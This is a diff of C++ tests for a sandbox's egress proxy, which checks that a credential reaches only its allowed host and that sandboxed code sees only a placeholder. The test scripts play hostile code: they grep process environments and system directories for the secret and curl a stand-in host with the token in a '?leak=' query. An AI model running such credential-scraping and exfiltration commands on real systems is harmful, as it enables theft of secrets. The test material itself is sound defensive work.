@@ -198,8 +198,9 @@ TEST(Egress, NoNetworkByDefault) {
 }
 
 // A credential granted for one host (--egress-credential): hostile code that looks for the value
-// everywhere it can reach finds only the placeholder; the host gets the value; an echo of it
-// comes back masked; the placeholder sent to any other host is refused and recorded.
+// everywhere it can reach finds only the placeholder; the host gets the value in the
+// Authorization header the proxy sets; an echo of it comes back masked; the placeholder sent to
+// any other host is refused and recorded.
 TEST(Egress, EgressCredentialIsUsedButNeverHeldBySandboxedCode) {
   const std::string secret = "ghp_RealValue0123456789abcdefXYZ";
   LoopbackHttpServer server("", /*echo=*/true);
@@ -207,7 +208,7 @@ TEST(Egress, EgressCredentialIsUsedButNeverHeldBySandboxedCode) {
   const std::string script =
       "echo \"seen=$API_TOKEN\"; "
       "grep -rals 'R[e]alValue' /proc/[0-9]*/environ /proc/[0-9]*/cmdline /tmp /etc 2>/dev/null | sed 's/^/found:/'; "
-      "curl -sS -H \"Authorization: Bearer $API_TOKEN\" 'http://allowed.test:" + port + "/?k='\"$API_TOKEN\"; echo; "
+      "curl -sS -H \"Authorization: Bearer $API_TOKEN\" 'http://allowed.test:" + port + "/?k=1'; echo; "
       "curl -sS -w ' %{http_code}' 'http://other.test:" + port + "/?leak='\"$API_TOKEN\"; echo";
   Invocation inv;
   inv.args = {"run", "--allow", "allowed.test:" + port, "--allow", "other.test:" + port, "--resolve",
@@ -224,12 +225,12 @@ TEST(Egress, EgressCredentialIsUsedButNeverHeldBySandboxedCode) {
   ASSERT_NE(seen, std::string::npos) << r.out;
   const std::string placeholder = r.out.substr(seen + 5, secret.size());
   EXPECT_NE(r.out.find("Authorization: Bearer " + placeholder), std::string::npos) << r.out;
-  EXPECT_NE(r.out.find("GET /?k=" + placeholder), std::string::npos) << r.out;
-  // What the host received: the value, in the header and in the query.
+  // What the host received: the value, in the header the proxy set.
   EXPECT_NE(server.last_request().find("Authorization: Bearer " + secret), std::string::npos) << server.last_request();
-  EXPECT_NE(server.last_request().find("GET /?k=" + secret), std::string::npos);
+  EXPECT_EQ(server.last_request().find(placeholder), std::string::npos) << server.last_request();
   EXPECT_EQ(server.requests(), 1) << "the request to other.test never reached it";
-  EXPECT_NE(r.out.find("may only go to allowed.test:" + port + "\n 403"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("may only go to allowed.test:" + port + ", in its Authorization header"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("(it was in the request line)\n 403"), std::string::npos) << r.out;
   bool refused = false;
   for (const auto& rec : r.record["egress"])
     refused |= rec["host"] == "other.test" && rec["allowed"] == false &&
@@ -253,7 +254,7 @@ TEST(Egress, EgressCredentialOverHttpsIsPutInByTheProxyAndNeverHeld) {
       "grep -rals 'T[l]sValue' /proc/[0-9]*/environ /proc/[0-9]*/cmdline /tmp /etc /run 2>/dev/null | sed 's/^/found:/'; "
       "curl -sS -H \"Authorization: Bearer $API_TOKEN\" \"$URL/curl\"; "
       "python3 -c \"import os, urllib.request as u; print(u.urlopen(u.Request(os.environ['URL'] + "
-      "'/py', headers={'X-Key': os.environ['API_TOKEN']})).read().decode())\"; "
+      "'/py', headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']})).read().decode())\"; "
       "test -r \"$SSL_CERT_FILE\" && echo bundle=$SSL_CERT_FILE; "
       "( : >> \"$SSL_CERT_FILE\" ) 2>/dev/null && echo bundle-writable; "
       "curl -sS -w ' %{http_code}' -H \"X-Key: $API_TOKEN\" 'http://allowed.test:" + port + "/clear'; echo";
@@ -267,14 +268,17 @@ TEST(Egress, EgressCredentialOverHttpsIsPutInByTheProxyAndNeverHeld) {
   EXPECT_NE(r.out.find("GET /curl HTTP/1.1"), std::string::npos) << r.out << r.err;
   EXPECT_NE(r.out.find("Authorization: Bearer " + placeholder), std::string::npos) << r.out;
   EXPECT_NE(r.out.find("GET /py HTTP/1.1"), std::string::npos) << r.out;
-  EXPECT_NE(r.out.find("X-Key: " + placeholder), std::string::npos) << r.out;
   EXPECT_NE(r.out.find("bundle=/run/warden/egress-ca.pem"), std::string::npos) << r.out;
   EXPECT_EQ(r.out.find("bundle-writable"), std::string::npos) << r.out;
   // In clear text to the same host: refused, never sent.
-  EXPECT_NE(r.out.find("may only go to https://allowed.test:" + port + "\n 403"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("may only go to https://allowed.test:" + port), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("(it was in header X-Key)\n 403"), std::string::npos) << r.out;
   const std::string log = server.log();
-  EXPECT_NE(log.find("Authorization: Bearer " + secret), std::string::npos) << log;
-  EXPECT_NE(log.find("X-Key: " + secret), std::string::npos) << log;
+  EXPECT_NE(log.find("GET /curl HTTP/1.1\r\nHost: allowed.test:" + port), std::string::npos) << log;
+  EXPECT_NE(log.find("GET /py HTTP/1.1"), std::string::npos) << log;
+  size_t with_value = 0;
+  for (size_t at = 0; (at = log.find("\r\nAuthorization: Bearer " + secret + "\r\n", at)) != std::string::npos; ++at) ++with_value;
+  EXPECT_EQ(with_value, 2u) << log;
   EXPECT_EQ(log.find(placeholder), std::string::npos) << log;
   EXPECT_EQ(log.find("/clear"), std::string::npos) << log;
   int https = 0;
@@ -283,6 +287,14 @@ TEST(Egress, EgressCredentialOverHttpsIsPutInByTheProxyAndNeverHeld) {
   // The bundle's directory went with the run.
   for (const auto& e : std::filesystem::directory_iterator(d))
     EXPECT_FALSE(e.path().filename().string().starts_with("warden-egress-ca-")) << e.path();
+}
+
+// Issue 31's attack (https_credential.h), over plain HTTP and HTTPS: the placeholder in the query,
+// the body (sized and chunked) or another header under the attacker's own Authorization is
+// refused; that Authorization is replaced by the user's; a gzip-compressed note is not read back.
+TEST(Egress, EgressCredentialAttackCannotPlantTheValueOrReadItBack) {
+  TempDir dir;
+  ExpectCredentialAttackFailed(RunCredentialAttack(dir.path(), {}, /*tls=*/true));
 }
 
 TEST(Egress, EgressCredentialMistakesAre125NamingTheCredential) {
@@ -313,6 +325,18 @@ TEST(Egress, EgressCredentialMistakesAre125NamingTheCredential) {
   auto d = RunWarden(both);
   EXPECT_EQ(d.exit_code, 125);
   EXPECT_NE(d.err.find("the sandbox may only see the placeholder"), std::string::npos) << d.err;
+
+  // Where the value goes: a header name and a template with {} once.
+  for (const char* spec : {"TOKEN=api.example.com;header=Bad Name", "TOKEN=api.example.com;header=Host",
+                           "TOKEN=api.example.com;template=Bearer", "TOKEN=api.example.com;colour=red"}) {
+    Invocation placement;
+    placement.args = {"run", "--allow", "api.example.com", "--egress-credential", spec, "--", "true"};
+    placement.extra_env = {{"TOKEN", "value-0123456789"}};
+    auto e = RunWarden(placement);
+    EXPECT_EQ(e.exit_code, 125) << spec;
+    EXPECT_NE(e.err.find("--egress-credential TOKEN"), std::string::npos) << e.err;
+    EXPECT_EQ(e.err.find("value-0123456789"), std::string::npos);
+  }
 }
 
 // The gateway's session check (--decision-fd, egress/decision_channel.h), answered here by a
